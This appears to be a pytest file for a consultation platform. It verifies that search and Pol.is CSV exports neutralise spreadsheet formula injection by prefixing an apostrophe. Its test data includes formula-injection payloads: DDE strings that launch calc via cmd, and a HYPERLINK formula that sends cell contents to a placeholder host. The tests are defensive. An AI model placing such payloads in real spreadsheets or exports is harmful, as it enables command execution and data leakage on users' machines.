"""Every CSV export makes the cells a spreadsheet would run as formulas inert (ADR
0133): the analysts' search export (HTML and JSON API alike), the Pol.is export,
and the one rule they share (services/core/spreadsheet.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from services.core.envelope import Actor
from services.core.events import Meta
from services.core.spreadsheet import csv_writer, inert, restored
from services.eventlog.memory import MemoryEventLog
from services.search.memory import MemorySearchIndex
from services.search.port import SearchDoc, SearchRequest
from services.search.workspace import EXPORT_COLUMNS, export_csv
from services.synthesis.opinions import OpinionBook
from services.synthesis.polis.importer import import_polis
from services.synthesis.polis.writer import write_polis

PAYLOADS = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")', "+SUM(1)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula."""
    return (cell[:1] in set("=+-@\t\r\uff1d")
            and not cell.lstrip("+-").replace(".", "").isdigit())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_starting_like_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert inert(payload) == "'" + payload
    assert inert(inert(payload)) == inert(payload)  # applied twice, still one
    assert restored(str(inert(payload))) == payload


@pytest.mark.parametrize("kept", ["Des pistes cyclables", "", "-3", "+1.5", "-0,25", "2024-01-01",
                                  "'=déjà inerte", "a=b", 7, -4, None])
def test_plain_texts_and_numbers_are_kept(kept: object) -> None:
    assert inert(kept) == kept


def test_the_writer_applies_it_to_every_cell() -> None:
    out = io.StringIO()
    csv_writer(out).writerows([["=titre", -1, "-1"], ["ok", "@x", "-"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=titre", "-1", "-1"], ["ok", "'@x", "'-"]]


async def test_search_export_writes_no_formula() -> None:
    index = MemorySearchIndex()
    await index.upsert([(SearchDoc(id=f"d{n}", title=payload, body=PAYLOADS[-1 - n],
                                   date="2024-01-01T00:00:00Z", commune="=commune"), 1)
                        for n, payload in enumerate(PAYLOADS)])
    body = b"".join([chunk async for chunk in export_csv(index, SearchRequest())]).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == list(EXPORT_COLUMNS) and len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert not runs(cell), (column, cell)
    assert {row["title"] for row in rows} == {"'" + p for p in PAYLOADS}
    assert {row["votes"] for row in rows} == {"0"}


async def test_polis_export_writes_no_formula_and_reads_back_the_text(tmp_path: Path) -> None:
    meta = Meta(actor=Actor(id="analyst-1", role="analyst"))
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "comments.csv").write_text(
        "timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n"
        "1000,x,0,0,1,0,1,\"=HYPERLINK(\"\"http://exemple.invalid\"\")\"\n"
        "2000,x,1,1,0,1,1,-2+3+cmd|' /C calc'!A0\n")
    (tmp_path / "in" / "votes.csv").write_text(
        "timestamp,datetime,comment-id,voter-id,vote\n3000,x,0,0,1\n3100,x,1,0,-1\n")
    (tmp_path / "in" / "summary.csv").write_text("topic,@Transports\n")
    log = MemoryEventLog()
    await import_polis(tmp_path / "in", consultation_id="c-1", log=log, meta=meta)
    write_polis(await OpinionBook.from_log(log, "c-1"), tmp_path / "out")

    for name in ("comments.csv", "votes.csv", "participants-votes.csv", "summary.csv"):
        with (tmp_path / "out" / name).open(newline="") as handle:
            for row in csv.reader(handle):
                assert not any(runs(cell) for cell in row), (name, row)
    again = MemoryEventLog()
    await import_polis(tmp_path / "out", consultation_id="c-2", log=again, meta=meta)
    book = await OpinionBook.from_log(again, "c-2")
    assert sorted(s.body for s in book.statements.values()) == [
        "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://exemple.invalid")']
    assert book.facts.get("topic") == "@Transports"
